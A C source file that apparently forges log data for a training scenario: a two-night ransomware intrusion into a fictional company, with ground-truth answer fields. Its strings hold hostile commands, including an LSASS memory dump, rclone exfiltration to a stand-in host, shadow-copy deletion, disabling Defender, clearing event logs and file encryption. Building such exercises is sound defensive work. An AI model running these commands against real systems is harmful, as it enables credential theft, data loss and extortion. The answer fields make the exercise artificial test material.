/* SPDX-License-Identifier: Apache-2.0
 *
 * The attack. A salesman's VPN password, tried from outside on Friday night; from his desk machine
 * to the file server with an administrator's password out of its memory, a look at the database
 * with the key that lay there. On Saturday night the same way again: the shares are packed and
 * sent out through the proxy, the tools are pushed with PsExec, and everything is encrypted. */
#include "samples/story.h"

#include "samples/actions.h"

#include <assert.h>

#define SYSTEM32 "C:\\Windows\\System32\\"
#define PUBLIC "C:\\Users\\Public\\"
#define OUTSIDE "203.0.113.77"
#define LEASE "10.20.99.14"
#define STORE "files.example.net"

static void guess_passwords(struct forge *f)
{
    static const char *const names[] = {"m.koba", "s.suzuki", "n.tanaka", "y.ito", "t.kuroda"};
    for (int i = 0; i < 15; i++) {
        const char *peer = forge_text(f, OUTSIDE ":%d", 38200 + 7 * i);
        int64_t t = forge_jst(f, 4, 21, 50 + i / 2, 11 + i % 2 * 24);
        forge_line(f, GW_SYSLOG, t, "ovpn-server[812]: %s TLS: Username/Password authentication "
                   "failed for username '%s' ", peer, names[i % 5]);
        forge_line(f, GW_SYSLOG, t + 1000, "ovpn-server[812]: %s TLS Auth Error: Auth "
                   "Username/Password verification failed for peer", peer);
    }
}

/* The salesman's machine on the first night: who am I, who else is there, whose passwords. */
static void look_around(struct forge *f, int64_t t, const struct session *s)
{
    static const char *const commands[][2] = {
        {"whoami.exe", "whoami /all"},
        {"nltest.exe", "nltest /dclist:acme.example"},
        {"net.exe", "net group \"Domain Admins\" /domain"},
        {"net.exe", "net view \\\\FS01"},
        {"PING.EXE", "ping -n 1 FS01"},
    };
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++)
        start_process(f, t + 19000000 * (int64_t)i, s,
                      forge_text(f, SYSTEM32 "%s", commands[i][0]), commands[i][1]);
}

static void dump_passwords(struct forge *f, int64_t t, const struct session *s, const char *file)
{
    const char *command = forge_text(
        f, "rundll32.exe " SYSTEM32 "comsvcs.dll, MiniDump 712 " PUBLIC "%s full", file);
    unsigned pid = start_process(f, t, s, SYSTEM32 "rundll32.exe", command);
    forge_event(f, s->host, t + 300000, SEC_HANDLE,
                "%s|%s|ACME|0x%llx|Security|Process|\\Device\\HarddiskVolume3\\Windows\\System32\\"
                "lsass.exe|0x2d4|{00000000-0000-0000-0000-000000000000}|%%%%4484\r\n\t\t\t\t|-|"
                "0x1410|-|0|0x%x|" SYSTEM32 "rundll32.exe|-",
                s->account->sid, s->account->name, (unsigned long long)s->logon, pid);
    if (s->host != WS07)
        return;
    forge_event(f, WS07, t + 310000, SYSMON_ACCESS,
                "-|%s|{9c1f7a20-11aa-4e02-a5d4-000000004711}|%u|%u|" SYSTEM32 "rundll32.exe|"
                "{9c1f7a20-0b3e-4e01-a5d4-000000000c00}|712|" SYSTEM32 "lsass.exe|0x1fffff|"
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4+C:\\Windows\\System32\\dbgcore.DLL+12a4e|"
                "ACME\\%s|NT AUTHORITY\\SYSTEM",
                forge_time(f, t, 0, ' '), pid, pid + 8, s->account->name)
        ->user_sid = "S-1-5-18";
    forge_event(f, WS07, t + 420000, SYSMON_FILE,
                "-|%s|{9c1f7a20-11aa-4e02-a5d4-000000004711}|%u|" SYSTEM32 "rundll32.exe|" PUBLIC
                "%s|%s|ACME\\%s",
                forge_time(f, t, 0, ' '), pid, file, forge_time(f, t, 0, ' '), s->account->name)
        ->user_sid = "S-1-5-18";
}

static void database(struct forge *f)
{
    forge_line(f, DB_AUTH, forge_jst(f, 5, 0, 14, 40),
               "sudo:      ops : TTY=pts/1 ; PWD=/home/ops ; USER=postgres ; "
               "COMMAND=/usr/bin/pg_dump crm -f /tmp/.c.sql");
    forge_line(f, DB_AUTH, forge_jst(f, 5, 0, 14, 41), "sudo: pam_unix(sudo:session): session "
               "opened for user postgres(uid=113) by ops(uid=1001)");
    forge_line(f, DB_AUTH, forge_jst(f, 5, 0, 16, 2),
               "sudo: pam_unix(sudo:session): session closed for user postgres");
    forge_line(f, DB_AUTH, forge_jst(f, 5, 0, 17, 20),
               "sudo:      ops : TTY=pts/1 ; PWD=/home/ops ; USER=root ; "
               "COMMAND=/usr/bin/chown ops /tmp/.c.sql");
}

static void first_night(struct forge *f)
{
    int64_t entry = forge_jst(f, 4, 22, 14, 31);
    f->truth.entry_us = entry;
    f->truth.entry_account = "t.kuroda";
    f->truth.entry_address = OUTSIDE;
    f->truth.entry_lease = LEASE;
    guess_passwords(f);
    vpn_session(f, "t.kuroda", OUTSIDE, 38411, LEASE, entry, forge_jst(f, 5, 0, 52, 10));
    struct client outside = {NULL, "DESKTOP-9QK2", LEASE, 50122};
    struct session desk =
        rdp(f, forge_jst(f, 4, 22, 21, 4), &outside, WS07, &accounts[T_KURODA], 3, true);
    look_around(f, forge_jst(f, 4, 22, 26, 30), &desk);
    dump_passwords(f, forge_jst(f, 4, 22, 48, 12), &desk, "l.dmp");
    struct client from_desk = {&desk, "WS07", "10.20.30.47", 50466};
    struct session files =
        rdp(f, forge_jst(f, 4, 23, 5, 18), &from_desk, FS01, &accounts[ADM_SATO], 4, true);
    start_process(f, forge_jst(f, 4, 23, 9, 2), &files, SYSTEM32 "cmd.exe", "cmd.exe");
    dump_passwords(f, forge_jst(f, 4, 23, 20, 44), &files, "m.dmp");
    start_process(f, forge_jst(f, 4, 23, 31, 7), &files, PUBLIC "adfind.exe",
                  "adfind.exe -f objectcategory=computer -csv name dNSHostName");
    rdp_end(f, forge_jst(f, 5, 0, 2, 10), &files, &from_desk, 11);
    from_desk.port = 50631;
    ssh(f, forge_jst(f, 5, 0, 12, 6), &from_desk, DB01, "ops", forge_jst(f, 5, 0, 31, 50), true);
    database(f);
    rdp_end(f, forge_jst(f, 5, 0, 50, 33), &desk, &outside, 11);
}

static void pack(struct forge *f, const struct session *s)
{
    static const char *const folders[] = {"Kanto", "Kansai", "Tokai", "Common", "Payroll", "Board"};
    for (int i = 0; i < 6; i++)
        start_process(f, forge_jst(f, 5, 23, 52 + i, 8), s, PUBLIC "7z.exe",
                      forge_text(f, "7z.exe a -mx1 -v4g -p****** D:\\Recovery\\a%d.7z "
                                 "D:\\Projects\\%s\\*", i + 1, folders[i]));
}

/* Squid logs a tunnel when it closes: the client's bytes are the column behind the type. */
static void upload(struct forge *f, const struct session *s)
{
    struct truth *truth = &f->truth;
    unsigned pid = start_process(f, forge_jst(f, 6, 0, 38, 2), s, PUBLIC "rclone.exe",
                                 "rclone.exe copy D:\\Recovery remote:in --transfers 3 -q");
    truth->upload_to = STORE;
    truth->upload_from = hosts[FS01].ip;
    for (unsigned i = 0; i < 10; i++) {
        int64_t opened = forge_jst(f, 6, 0, 39 + (int)i * 8, 20);
        unsigned seconds = 410 + forge_random(f, 60);
        uint64_t sent = 3870000000u + (uint64_t)i * 1048576 - forge_random(f, 9000000);
        struct client from = {s, "FS01", hosts[FS01].ip, (uint16_t)(58211 + 4 * i)};
        connect_hosts(f, opened, &from, pid, PUBLIC "rclone.exe", hosts[PROXY01].ip, -1, 3128);
        int64_t closed = opened + (int64_t)seconds * 1000000;
        forge_line(f, SQUID_ACCESS, closed, "%6u %s TCP_TUNNEL/200 %u CONNECT " STORE
                   ":443 adm.sato HIER_DIRECT/203.0.113.9 - %llu \"rclone/v1.68.1\"",
                   seconds * 1000, hosts[FS01].ip, 180000 + forge_random(f, 90000),
                   (unsigned long long)sent);
        truth->upload_bytes += sent;
        truth->upload_tunnels++;
        truth->upload_last_us = closed;
        if (i == 0)
            truth->upload_first_us = opened;
    }
}

static void clear_log(struct forge *f, int64_t t, const struct session *s, const char *channel)
{
    struct truth *truth = &f->truth;
    const char *who = s->account ? s->account->name : "SYSTEM";
    const char *domain = s->account ? "ACME" : "NT AUTHORITY";
    start_process(f, t - 90000, s, SYSTEM32 "wevtutil.exe",
                  forge_text(f, "wevtutil cl %s", channel));
    if (strcmp(channel, "Security") == 0)
        forge_event(f, s->host, t, SEC_CLEARED, "%s|%s|%s|0x%llx",
                    s->account ? s->account->sid : "S-1-5-18", who, domain,
                    (unsigned long long)s->logon);
    else
        forge_event(f, s->host, t, SYS_CLEARED, "%s|%s|%s|", who, domain, channel)->user_sid =
            s->account ? s->account->sid : "S-1-5-18";
    assert(truth->cleared_count < CLEARED_MAX);
    truth->cleared[truth->cleared_count++] = (struct cleared){s->host, channel, who, t, 0};
}

static void no_way_back(struct forge *f, int64_t t, const struct session *s)
{
    static const char *const stopped[] = {"SQL Server (MSSQLSERVER)", "Veeam Backup Service",
                                          "Volume Shadow Copy", "Windows Backup",
                                          "Microsoft Defender Antivirus Service",
                                          "Windows Update"};
    start_process(f, t, s, SYSTEM32 "WindowsPowerShell\\v1.0\\powershell.exe",
                  "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true");
    forge_event(f, s->host, t + 900000, DEFENDER_OFF,
                "Microsoft Defender Antivirus|4.18.24080.9")->user_sid = "S-1-5-18";
    start_process(f, t + 20000000, s, SYSTEM32 "vssadmin.exe",
                  "vssadmin delete shadows /all /quiet");
    start_process(f, t + 24000000, s, SYSTEM32 "wbem\\WMIC.exe", "wmic shadowcopy delete");
    start_process(f, t + 27000000, s, SYSTEM32 "bcdedit.exe",
                  "bcdedit /set {default} recoveryenabled no");
    for (int i = 0; i < 6; i++) {
        int64_t at = t + 31000000 + 400000 * i;
        start_process(f, at, s, SYSTEM32 "net.exe",
                      forge_text(f, "net stop \"%s\" /y", stopped[i]));
        forge_event(f, s->host, at + 300000, SYS_SERVICE_STATE, "%s|stopped|", stopped[i]);
    }
}

static void write_file(struct forge *f, int64_t t, const struct session *s, unsigned pid,
                       const char *path)
{
    const char *who = s->account ? s->account->name : forge_text(f, "%s$", hosts[s->host].name);
    forge_event(f, s->host, t, SEC_OBJECT,
                "%s|%s|ACME|0x%llx|Security|File|%s|0x%x|%%%%4417\r\n\t\t\t\t%%%%4418\r\n\t\t\t\t|"
                "0x6|0x%x|" PUBLIC "enc.exe|S:AI",
                s->account ? s->account->sid : "S-1-5-18", who, (unsigned long long)s->logon, path,
                0x200 + 4 * forge_random(f, 900), pid)
        ->pid = 4;
}

/* One file after another; the ransom note in each folder. */
static void encrypt(struct forge *f, int64_t t, const struct session *s, const char *drive,
                    unsigned files)
{
    static const char *const kinds[] = {"xlsx", "docx", "pdf", "pptx", "csv", "bak", "msg", "jpg"};
    unsigned pid = start_process(f, t - 1500000, s, PUBLIC "enc.exe",
                                 forge_text(f, PUBLIC "enc.exe --path %s --threads 4", drive));
    struct damage damage = {s->host, t, t, files};
    for (unsigned i = 0; i < files; i++) {
        const char *folder = forge_text(f, "%s\\%03u", drive, i / 20);
        write_file(f, t, s, pid, forge_text(f, "%s\\%05u.%s.locked", folder, i * 7 % 99991,
                                            kinds[forge_random(f, 8)]));
        damage.last_us = t;
        if (i % 20 == 19)
            write_file(f, t + 20000, s, pid, forge_text(f, "%s\\README_RESTORE.txt", folder));
        t += 150000 + forge_random(f, 500000);
    }
    assert(f->truth.damage_count < DAMAGE_MAX);
    f->truth.damage[f->truth.damage_count++] = damage;
}

static void second_night(struct forge *f)
{
    int64_t end = forge_jst(f, 6, 3, 10, 44);
    vpn_session(f, "t.kuroda", OUTSIDE, 41870, LEASE, forge_jst(f, 5, 23, 31, 7), end);
    struct client outside = {NULL, "DESKTOP-9QK2", LEASE, 50877};
    struct session desk =
        rdp(f, forge_jst(f, 5, 23, 36, 22), &outside, WS07, &accounts[T_KURODA], 4, true);
    struct client from_desk = {&desk, "WS07", "10.20.30.47", 51202};
    struct session files =
        rdp(f, forge_jst(f, 5, 23, 44, 15), &from_desk, FS01, &accounts[ADM_SATO], 5, true);
    pack(f, &files);
    upload(f, &files);
    struct session app = psexec(f, forge_jst(f, 6, 2, 21, 9), &files, APP02, &accounts[DA_MORI],
                                59044, PUBLIC "go.cmd");
    struct session dc = psexec(f, forge_jst(f, 6, 2, 24, 40), &files, DC01, &accounts[DA_MORI],
                               59107, PUBLIC "go.cmd");
    no_way_back(f, forge_jst(f, 6, 2, 29, 30), &app);
    no_way_back(f, forge_jst(f, 6, 2, 30, 12), &dc);
    no_way_back(f, forge_jst(f, 6, 2, 31, 3), &files);
    clear_log(f, forge_jst(f, 6, 2, 33, 51), &app, "Security");
    encrypt(f, forge_jst(f, 6, 2, 41, 5), &files, "D:\\Projects", 640);
    encrypt(f, forge_jst(f, 6, 2, 42, 30), &app, "D:\\App", 320);
    encrypt(f, forge_jst(f, 6, 2, 43, 12), &dc, "C:\\Shares", 260);
    clear_log(f, forge_jst(f, 6, 3, 2, 16), &files, "System");
    rdp_end(f, forge_jst(f, 6, 3, 4, 50), &files, &from_desk, 11);
    rdp_end(f, forge_jst(f, 6, 3, 8, 2), &desk, &outside, 11);
}

void attack(struct forge *f)
{
    first_night(f);
    second_night(f);
}
